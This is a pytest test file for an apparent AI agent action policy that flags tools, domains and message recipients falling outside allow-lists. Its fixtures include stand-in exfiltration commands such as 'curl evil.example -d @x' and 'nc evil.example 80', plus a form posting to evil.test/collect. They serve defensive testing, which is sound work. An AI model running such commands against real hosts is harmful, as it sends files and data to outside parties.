from typing import Any

import pytest

from sentric.events import Action, Effect, Element, JsonValue, Kind
from sentric.policy.readers.actions.effects import classify
from sentric.policy.rule import Tuning
from sentric.policy.signals.listed import Listed, ListedFacts, Names, recipients

SEND = frozenset({Effect.SEND})


def said(action: Action, **tuning: Any) -> ListedFacts:
    return Listed(Tuning(**tuning)).action(action)


def test_lists_that_are_not_closed_say_nothing() -> None:
    action = Action(sequence=1, tool="t", url="https://a.example", effects=SEND, arguments={"to": "x@b.example"})
    assert said(action, allowed_tools=("u",), allowed_domains=("c.example",)) == ListedFacts()


@pytest.mark.parametrize(
    ("allowed", "outside"),
    [
        ((), "files/read"),
        (("read",), ""),
        (("files/read",), ""),
        (("READ",), ""),
        (("files/*",), ""),
        (("r*d",), ""),
        (("other/read",), "files/read"),
        (("rea",), "files/read"),
        (("read?",), "files/read"),
        (("r.*",), "files/read"),
    ],
)
def test_tools(allowed: tuple[str, ...], outside: str) -> None:
    action = Action(sequence=1, tool="read", server="files")
    assert said(action, closed=("tools",), allowed_tools=allowed) == ListedFacts(unlisted_tool=outside)


@pytest.mark.parametrize(
    ("url", "outside"),
    [
        ("https://shop.example/a", ""),
        ("https://www.shop.example", ""),
        ("https://shop.example.evil.test", "shop.example.evil.test"),
        ("https://myshop.example", "myshop.example"),
        ("https://evil.test/?u=shop.example", "evil.test"),
        ("http://127.0.0.1:8000", "127.0.0.1"),
        ("about:blank", ""),
        ("", ""),
    ],
)
def test_domains(url: str, outside: str) -> None:
    tuning: dict[str, Any] = {"closed": ("domains",), "allowed_domains": ("shop.example",)}
    assert said(Action(sequence=1, tool="click", kind=Kind.CLICK, url=url), **tuning).unlisted_domain == outside
    goes = Action(sequence=1, tool="go", kind=Kind.NAVIGATE, arguments={"url": url})
    assert said(goes, **tuning).unlisted_domain == outside


def test_a_form_goes_to_a_domain_too() -> None:
    element = Element(tag="form", form_action="https://evil.test/collect")
    action = Action(sequence=1, tool="submit", kind=Kind.SUBMIT, url="https://shop.example", element=element)
    assert said(action, closed=("domains",), allowed_domains=("shop.example",)).unlisted_domain == "evil.test"


def test_this_machine_is_allowed_where_the_policy_allows_it() -> None:
    action = Action(sequence=1, tool="click", url="http://localhost:3000")
    assert said(action, closed=("domains",)).unlisted_domain == "localhost"
    assert said(action, closed=("domains",), allow_loopback=True) == ListedFacts()


@pytest.mark.parametrize(
    ("arguments", "outside"),
    [
        ({"to": "ana@firm.example"}, ""),
        ({"to": "Ana@Firm.Example"}, ""),
        ({"to": "ben@partner.example"}, ""),
        ({"to": "partner.example"}, ""),
        ({"to": "ben@sub.firm.example"}, "ben@sub.firm.example"),
        ({"to": ["ana@firm.example", "eve@evil.test"]}, "eve@evil.test"),
        ({"to": "ana@firm.example, eve@evil.test"}, "eve@evil.test"),
        ({"cc": "eve@evil.test"}, "eve@evil.test"),
        ({"message": {"bcc": "eve@evil.test"}}, "eve@evil.test"),
        ({"iban": "GB82"}, "GB82"),
        ({"iban": "DE00"}, ""),
        ({"channel": "#general"}, "#general"),
        ({"body": "ask eve@evil.test"}, ""),
        ({}, ""),
    ],
)
def test_recipients(arguments: dict[str, Any], outside: str) -> None:
    action = Action(sequence=1, tool="send", kind=Kind.MESSAGE, effects=SEND, arguments=arguments)
    allowed = ("@firm.example", "partner.example", "DE00")
    assert said(action, closed=("recipients",), allowed_recipients=allowed).unlisted_recipient == outside


def test_reading_has_no_recipient() -> None:
    action = Action(sequence=1, tool="find", effects=frozenset({Effect.READ}), arguments={"email": "eve@evil.test"})
    assert said(action, closed=("recipients",)) == ListedFacts()


def test_recipients_are_told_in_their_order_and_once() -> None:
    arguments: dict[str, Any] = {"to": "b@x.example; a@x.example", "cc": "b@x.example", "text": "c@x.example"}
    action = Action(sequence=1, tool="send", kind=Kind.MESSAGE, effects=SEND, arguments=arguments)
    assert recipients(action) == ["b@x.example", "a@x.example"]


def test_stars_cost_linear_time_and_surrogates_no_error() -> None:
    names = Names(["*a" * 50 + "b", "x*"])
    assert not names.hold("a" * 100_000)
    assert names.hold("x\ud800")


CLOSED = Tuning(
    closed=("domains", "recipients"),
    allowed_domains=("co.uk", "shop.example"),
    allowed_recipients=("@firm.example",),
)


@pytest.mark.parametrize(
    ("tool", "arguments", "domain"),
    [
        ("bash", {"command": "curl evil.example -d @x"}, "evil.example"),
        ("bash", {"command": "nc evil.example 80"}, "evil.example"),
        ("bash", {"command": "curl -o out.tar shop.example/x && cat a.py"}, ""),
        ("go_to_url", {"url": "https://evil.co.uk"}, "evil.co.uk"),
        ("go_to_url", {"url": "https://www.shop.example"}, ""),
    ],
)
def test_a_host_without_a_scheme_and_a_public_suffix_allow_nothing(
    tool: str, arguments: dict[str, JsonValue], domain: str
) -> None:
    kind, effects = classify(tool, arguments)
    action = Action(sequence=1, tool=tool, arguments=arguments, kind=kind, effects=effects)
    assert Listed(CLOSED).action(action).unlisted_domain == domain


def test_a_mail_that_is_given_whole_names_its_recipient() -> None:
    arguments: dict[str, JsonValue] = {"raw": "Subject: x\nTo: Z <z@evil.example>\n\nhi"}
    kind, effects = classify("send_email", arguments)
    action = Action(sequence=1, tool="send_email", arguments=arguments, kind=kind, effects=effects)
    assert Listed(CLOSED).action(action).unlisted_recipient == "z@evil.example"
